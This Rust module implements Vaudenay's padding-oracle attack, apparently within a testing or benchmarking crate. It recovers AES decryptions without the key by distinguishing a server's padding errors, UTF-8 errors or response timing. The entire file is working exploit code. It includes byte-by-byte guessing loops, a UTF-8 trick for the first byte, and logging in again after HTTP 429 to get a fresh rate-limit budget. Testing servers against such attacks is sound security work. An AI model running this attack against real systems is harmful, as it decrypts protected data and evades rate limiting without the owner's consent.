//! What an attacker makes of a server that lets two failures be told apart (Vaudenay 2002): the block cipher's inverse.

use std::time::Duration;

use crate::block::{Block, Dice, Payload, xor};
use crate::classes::Class;
use crate::member::Member;
use crate::support::Bench;

/// What the answers are told apart by.
#[derive(Clone)]
pub enum Oracle {
    /// A refusal for the padding reads like this, and any other differently.
    Padding(String),
    /// A refusal for text that is not UTF-8 reads like this, and any other differently.
    Text(String),
    /// Nothing is known: of all guesses, the one whose answer took longest is believed.
    Time,
}

/// No more answers are to be had from this member.
pub struct Spent;

/// The answers to four failures that the attacker can make at will, in the order of [`Class::BARE`].
pub async fn calibrate(member: &mut Member, bench: &Bench) -> [String; 4] {
    let mut dice = Dice(1);
    let mut answers = Vec::new();
    for class in Class::BARE {
        let payload = class.payload(member, bench, &mut dice);
        answers.push(member.post(&payload).await.bytes());
    }
    answers.try_into().unwrap()
}

/// Somebody who asks for one block after the other.
pub struct Inverter<'a> {
    pub member: &'a mut Member,
    pub oracle: Oracle,
    pub dice: Dice,
    /// Posts after which the member gives up.
    pub patience: usize,
}

impl Inverter<'_> {
    /// `block` under AES's inverse, without the key.
    pub async fn invert(&mut self, block: &Block) -> Result<Block, Spent> {
        let mut inverse = [0; 16];
        // Text that is empty is UTF-8: the first byte of all cannot be had from the padding then.
        let last = if matches!(self.oracle, Oracle::Text(_)) { 15 } else { 16 };
        for pad in 1..=last {
            let at = 16 - usize::from(pad);
            inverse[at] = self.byte(block, &inverse, pad).await? ^ pad;
        }
        if last == 15 {
            inverse[0] = self.first_byte(block, &inverse).await?;
        }
        Ok(inverse)
    }

    /// What must stand before `block` for its plaintext to end with `pad` times `pad`, where all but the first of those
    /// bytes are known.
    async fn byte(&mut self, block: &Block, inverse: &Block, pad: u8) -> Result<u8, Spent> {
        let at = 16 - usize::from(pad);
        let mut slowest = (Duration::ZERO, 0);
        loop {
            for guess in 0..=255 {
                let mut before = self.dice.block();
                before[at] = guess;
                for index in at + 1..16 {
                    before[index] = inverse[index] ^ pad;
                }
                let (hit, took) = self.ask(&before, block).await?;
                if hit && (pad > 1 || self.is_one(before, block).await?) {
                    return Ok(guess);
                }
                slowest = slowest.max((took, guess));
            }
            if matches!(self.oracle, Oracle::Time) {
                return Ok(slowest.1);
            }
        }
    }

    /// Whether a padding that holds is a single byte: then the byte before it is of no matter.
    async fn is_one(&mut self, mut before: Block, block: &Block) -> Result<bool, Spent> {
        before[14] ^= 1;
        Ok(self.ask(&before, block).await?.0)
    }

    /// The first byte, from what UTF-8 allows after it: with A0 80 it must be one of E0 to EF without ED, and only E0 forbids
    /// 80 80.
    async fn first_byte(&mut self, block: &Block, inverse: &Block) -> Result<u8, Spent> {
        let before = |first: u8, second: u8| {
            let mut plain = [13; 16];
            plain[1..3].copy_from_slice(&[second, 0x80]);
            let mut before = xor(inverse, &plain);
            before[0] = first;
            before
        };
        for guess in 0..=255 {
            if self.ask(&before(guess, 0xa0), block).await?.0 {
                continue;
            }
            for nibble in 0..16 {
                let first = guess ^ nibble;
                if !self.ask(&before(first, 0xa0), block).await?.0 && self.ask(&before(first, 0x80), block).await?.0 {
                    return Ok(first ^ 0xe0);
                }
            }
        }
        Err(Spent)
    }

    /// Whether the answer is the one that is looked for, and how long it took.
    async fn ask(&mut self, before: &Block, block: &Block) -> Result<(bool, Duration), Spent> {
        let payload = match self.oracle {
            Oracle::Text(_) => Payload { iv: *before, blocks: vec![*block] },
            _ => Payload { iv: self.dice.block(), blocks: vec![*before, *block] },
        };
        for _ in 0..2 {
            if self.member.posted.all() >= self.patience {
                return Err(Spent);
            }
            let seen = self.member.post(&payload).await;
            match &self.oracle {
                Oracle::Time => return Ok((false, seen.took)),
                // A new login may have a new budget.
                _ if seen.status == 429 => self.member.login_again().await,
                Oracle::Padding(refusal) => return Ok((seen.bytes() != *refusal, seen.took)),
                Oracle::Text(refusal) => return Ok((seen.bytes() == *refusal, seen.took)),
            }
        }
        Err(Spent)
    }
}
